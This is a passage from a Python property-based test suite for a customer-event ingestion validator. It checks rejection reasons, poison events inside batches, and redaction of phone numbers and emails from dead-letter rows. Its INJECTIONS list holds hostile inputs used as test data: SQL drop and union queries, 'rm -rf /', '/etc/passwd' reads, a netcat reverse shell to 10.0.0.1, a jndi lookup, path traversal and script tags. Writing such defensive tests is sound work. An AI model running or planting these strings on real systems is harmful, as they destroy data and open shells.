        [dead] = result.rejected
        assert dead.reason in outcomes, f"{path}={value!r}: {dead.reason} ({dead.detail}), expected {outcomes}"


@settings(QUICK, max_examples=800)
@given(path=st.sampled_from(LEAVES), value=WRONG)
def test_any_json_type_in_any_field_is_accepted_only_when_the_contract_allows_it(
    path: tuple[str, ...], value: Any
) -> None:
    if path == ("attributes", ATTR_KEY):  # JSON object keys are always strings
        path = ("attributes", "note")
    assert_typed_field(path, dumps(with_value(path, value)), value)


@QUICK
@given(path=st.sampled_from(LEAVES), literal=st.sampled_from(NUMBER_LITERALS))
def test_odd_number_literals_are_invalid_json_or_typed_like_any_number(path: tuple[str, ...], literal: bytes) -> None:
    if path == ("attributes", ATTR_KEY):
        path = ("attributes", "note")
    payload = spliced(path, literal)
    try:
        value = orjson.loads(literal)
    except orjson.JSONDecodeError:
        assert [d.reason for d in check([payload]).rejected] == [RejectReason.INVALID_JSON]
    else:
        assert_typed_field(path, payload, value)


# --- 6. SQL and shell metacharacters ------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE cx.touchpoints; --",
    '"; DROP TABLE cx.touchpoints; --',
    "' OR '1'='1",
    "1; SELECT * FROM system.users FORMAT JSON",
    "x' UNION ALL SELECT name, password FROM system.users --",
    "'); INSERT INTO cx.dead_letters VALUES (",
    "/* */ FINAL",
    "$(rm -rf /)",
    "`id`",
    "${IFS}cat${IFS}/etc/passwd",
    "| nc 10.0.0.1 4444 -e /bin/sh",
    "&& shutdown -h now",
    "\x00",
    "\\x00",
    "\\",
    "%s%s%s%n",
    "%(password)s",
    "{db}",
    "{0.__class__.__mro__}",
    "{{7*7}}",
    "${jndi:ldap://x.invalid/a}",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    "\r\nSet-Cookie: x=1",
    "-- ",
    "#",
    ";",
    "*",
    "?",
    "web; DROP TABLE x",
    "page_view;",
    "C1'--",
]


@settings(QUICK, max_examples=500)
@given(
    path=st.sampled_from(STRING_FIELDS),
    value=st.sampled_from(INJECTIONS) | st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=4).map("".join),
)
def test_injection_strings_are_kept_as_data_or_rejected_by_contract(path: tuple[str, ...], value: str) -> None:
    assert_string_field(path, value)


@QUICK
@given(key=st.sampled_from(INJECTIONS), where=st.sampled_from(["top", "identity", "context", "metrics", "envelope"]))
def test_injection_strings_as_unknown_keys_are_invalid_field(key: str, where: str) -> None:
    if where == "envelope":
        payload = dumps({"events": [touchpoint()], key: 1})
    else:
        event = touchpoint(metrics={"csat": 3}, context={"order_id": "O1"})
        (event if where == "top" else event[where])[key] = "x"
        payload = dumps(event)
    assert [d.reason for d in check([payload]).rejected] == [RejectReason.INVALID_FIELD]


# --- 7. one poison event among valid ones -------------------------------------------------------------------

ELEMENT_POISONS: dict[str, tuple[Any, RejectReason]] = {
    "string": (lambda: b'"poison"', RejectReason.NOT_AN_OBJECT),
    "null": (lambda: b"null", RejectReason.NOT_AN_OBJECT),
    "array of touchpoints": (lambda: dumps([touchpoint()]), RejectReason.NOT_AN_OBJECT),
    "empty identity": (lambda: dumps(with_value(("identity",), {})), RejectReason.MISSING_IDENTITY),
    "placeholder identity": (
        lambda: dumps(with_value(("identity",), {"customer_id": "null", "device_id": "0000"})),
        RejectReason.MISSING_IDENTITY,
    ),
    "unknown channel": (lambda: dumps(touchpoint(channel="fax")), RejectReason.UNKNOWN_CHANNEL),
    "csat out of range, with PII": (
        lambda: dumps(
            touchpoint(identity={"phone": "+86 138 0013 8000", "email": "Alice@Example.com"}, metrics={"csat": 9})
        ),
        RejectReason.INVALID_FIELD,
    ),
    "injected event_type": (
        lambda: dumps(touchpoint("'; DROP TABLE cx.touchpoints; --")),
        RejectReason.INVALID_FIELD,
    ),
    "nested 300 deep": (lambda: spliced(("attributes", "note"), deep(300, "[")), RejectReason.INVALID_FIELD),
    "nested 1000 deep": (lambda: spliced(("attributes", "note"), deep(1000, "{")), RejectReason.INVALID_FIELD),
    "reserved customer_id": (
        lambda: dumps(touchpoint(identity={"customer_id": "~anon:x"})),
        RejectReason.INVALID_FIELD,
    ),
    "future": (lambda: dumps(touchpoint(at=T0 + timedelta(days=1))), RejectReason.FUTURE_TIMESTAMP),
    "over 64 KiB": (lambda: dumps(sized_event(MAX_EVENT_BYTES + 1)), RejectReason.TOO_LARGE),
    "schema version 2": (lambda: dumps(with_value(("schema_version",), 2)), RejectReason.UNSUPPORTED_SCHEMA_VERSION),
    # Issue 11: values the tables cannot hold, invisible and control ids, look-alike versions, nested batches.
    "year 1": (lambda: dumps(with_value(("occurred_at",), "0001-01-01T00:00:00+14:00")), RejectReason.INVALID_FIELD),
    "half a second before 1970": (
        lambda: dumps(with_value(("occurred_at",), "1969-12-31T23:59:59.500Z")),
        RejectReason.INVALID_FIELD,
    ),
    "schema version 1.0": (lambda: dumps(with_value(("schema_version",), 1.0)), RejectReason.INVALID_FIELD),
    "NUL event_id": (lambda: dumps(with_value(("event_id",), "\u0000")), RejectReason.INVALID_FIELD),
    "blank event_id": (lambda: dumps(with_value(("event_id",), "\u200b ")), RejectReason.INVALID_FIELD),
    "zero-width customer_id": (
        lambda: dumps(with_value(("identity",), {"customer_id": "\u200b"})),
        RejectReason.MISSING_IDENTITY,
    ),
    "escape in an id": (lambda: dumps(with_value(("context", "order_id"), "o\u001b[2J")), RejectReason.INVALID_FIELD),
    "phone glued to letters, with PII": (
        lambda: dumps(
            touchpoint(
                identity={"customer_id": "C1", "phone": "13900001111abc", "email": "bob.pii@x.com"},
                channel="bob.pii@x.com",
            )
        ),
        RejectReason.UNKNOWN_CHANNEL,
    ),
}
MESSAGE_POISONS: dict[str, tuple[Any, RejectReason]] = {
    **ELEMENT_POISONS,
    "truncated": (lambda: dumps(touchpoint())[:-1], RejectReason.INVALID_JSON),
    "invalid UTF-8": (lambda: dumps(touchpoint()).replace(b'"test"', b'"\xff"'), RejectReason.INVALID_JSON),
    "lone surrogate": (lambda: spliced(("source",), b'"\\udead"'), RejectReason.INVALID_JSON),
    "nested 10,000 deep": (lambda: deep(10_000, "["), RejectReason.INVALID_JSON),
    "no value": (lambda: None, RejectReason.INVALID_JSON),
    "over 8 MiB": (lambda: b" " * MAX_BATCH_BYTES + b"{}", RejectReason.TOO_LARGE),
    "batch of 1001": (lambda: dumps({"events": [touchpoint() for _ in range(1001)]}), RejectReason.TOO_LARGE),
    "batch with an extra key": (lambda: dumps({"events": [touchpoint()], "x": 1}), RejectReason.INVALID_FIELD),
}
# Only inside a batch: as a message of its own, a batch envelope is what it should be.
ELEMENT_POISONS["batch in a batch"] = (lambda: dumps({"events": [touchpoint()]}), RejectReason.INVALID_FIELD)


@settings(QUICK, max_examples=100)
@given(neighbours=st.lists(valid_events(), min_size=1, max_size=5), name=st.sampled_from(sorted(ELEMENT_POISONS)))
def test_a_poison_event_at_any_position_of_a_batch_spares_its_neighbours(
    neighbours: list[dict[str, Any]], name: str
) -> None:
    build, reason = ELEMENT_POISONS[name]
    good = [dumps(e) for e in neighbours]
    clean = ingest([Message(batch(*good), "cx.touchpoints", 1, 100, 0)], CFG, NOW_MS)
    alone = [r for g in good for r in ingest([Message(g, "cx.touchpoints", 1, 100, 0)], CFG, NOW_MS).records]
    assert clean.rejected == [] and clean.records == alone
    for position in range(len(good) + 1):
        poison = build()
        result = check([batch(*good[:position], poison, *good[position:])])
        assert result.records == clean.records
        [dead] = result.rejected
        assert (dead.reason, dead.index, dead.raw) == (reason, position, poison)


@settings(QUICK, max_examples=100)
@given(neighbours=st.lists(valid_events(), min_size=1, max_size=5), name=st.sampled_from(sorted(MESSAGE_POISONS)))
def test_a_poison_message_at_any_position_spares_the_other_messages(
    neighbours: list[dict[str, Any]], name: str
) -> None:
    build, reason = MESSAGE_POISONS[name]
    good: list[bytes | None] = [dumps(e) for e in neighbours]
    alone = [r for g in good for r in ingest([Message(g, "cx.touchpoints", 1, 100, 0)], CFG, NOW_MS).records]
    assert len(alone) == len(good)
    for position in range(len(good) + 1):
        poison = build()
        result = check([*good[:position], poison, *good[position:]])
        assert result.records == alone
        [dead] = result.rejected
        assert (dead.reason, dead.offset, dead.index, dead.raw) == (reason, 100 + position, 0, poison or b"")


# --- regressions found by this suite -------------------------------------------------------------------------


@pytest.mark.parametrize("big", [False, True], ids=["small-batch", "batch-over-64-KiB"])
def test_a_batch_element_nested_past_the_encoders_limit_is_a_dead_letter_not_a_crash(big: bool) -> None:
    # orjson reads 1024 levels but writes only 254: re-encoding the element for its dead letter raised.
    poison = spliced(("attributes", "note"), deep(500, "["))
    neighbour = sized_event(MAX_EVENT_BYTES) if big else touchpoint()
    result = ingest([Message(batch(dumps(neighbour), poison), "cx.touchpoints", 0, 0, 0)], CFG, NOW_MS)
    assert [r.event_id for r in result.records] == [neighbour["event_id"]]
    [dead] = result.rejected
    assert (dead.reason, dead.index, dead.raw) == (RejectReason.INVALID_FIELD, 1, poison)


@pytest.mark.parametrize(
    "raw",
    [b"\xff" * 70_000, b"[" + b",".join([b"1234567"] * 9000) + b"]", b" ".join([b"a@b.cc"] * 10_000)],
    ids=["invalid-utf8-widens", "phones-widen-to-quoted-placeholders", "emails-widen"],
)
def test_a_dead_letter_row_holds_at_most_64_kib_after_redaction(raw: bytes) -> None:
    [dead] = ingest([Message(raw, "cx.touchpoints", 0, 0, 0)], CFG, NOW_MS).rejected
    row = dead_letter_row(dead)
    assert 60_000 < len(row.raw.encode()) <= ROW_RAW_MAX


@pytest.mark.parametrize("cut", range(-20, 2))
def test_a_dead_letter_row_never_keeps_part_of_an_address_cut_at_64_kib(cut: int) -> None:
    email = "alice.smith@example.com"
    event = sized_event(MAX_EVENT_BYTES + 200)
    raw = dumps(event)
    at = ROW_RAW_MAX + cut
    raw = raw[:at] + email.encode() + raw[at:]
    [dead] = ingest([Message(raw, "cx.touchpoints", 0, 0, 0)], CFG, NOW_MS).rejected
    row = dead_letter_row(dead)
    assert "alice.smith@" not in row.raw and "@example.com" not in row.raw
    assert len(row.raw.encode()) <= ROW_RAW_MAX


@pytest.mark.parametrize(
    "pii",
    [
        "13800138000".translate(FULL_WIDTH),
        "+86 138 0013 8000".translate(FULL_WIDTH),
        "13800138000".translate(ARABIC_INDIC),
        "alice@example.com".translate(LOOK_ALIKE),
        "用户@例子.中国",
        "jose\u0301@example.com",
    ],
)
def test_non_ascii_phones_and_addresses_are_redacted_from_dead_letters_and_attributes(pii: str) -> None:
    key = "email" if "@" in pii else "phone"
    bad = touchpoint(identity={"customer_id": "C1", key: pii}, metrics={"csat": 9})
    good = touchpoint(attributes={"note": f"reach me at {pii} today"})
    result = ingest([Message(dumps(m), "cx.touchpoints", 0, i, 0) for i, m in enumerate([bad, good])], CFG, NOW_MS)
    [dead] = result.rejected
    [rec] = result.records
    assert pii not in dead_letter_row(dead).raw
    assert rec.attributes is not None and pii not in rec.attributes["note"]
    assert rec.attributes["note"].startswith("reach me at <")


@pytest.mark.parametrize(
    "phone", ["\t13800138000\t", "\n+86 138 0013 8000", "\u3000138 0013 8000", "\u00a013800138000"]
)
@pytest.mark.parametrize("encoder", ["orjson", "ascii-json"])
def test_a_phone_after_a_json_escape_is_redacted_from_dead_letters(phone: str, encoder: str) -> None:
    # `"\t13800138000"` on the wire: the escape's letter glued the digits to a "word" and they were kept.
    bad = touchpoint(identity={"customer_id": "C1", "phone": phone}, metrics={"csat": 9})
    raw = dumps(bad) if encoder == "orjson" else json.dumps(bad).encode()  # Python's default escapes non-ASCII
    [dead] = ingest([Message(raw, "cx.touchpoints", 0, 0, 0)], CFG, NOW_MS).rejected
    row = dead_letter_row(dead)
    assert "0013" not in row.raw and "<phone>" in row.raw
    assert json.loads(row.raw)["identity"]["phone"].strip() == "<phone>"  # and the row stays JSON
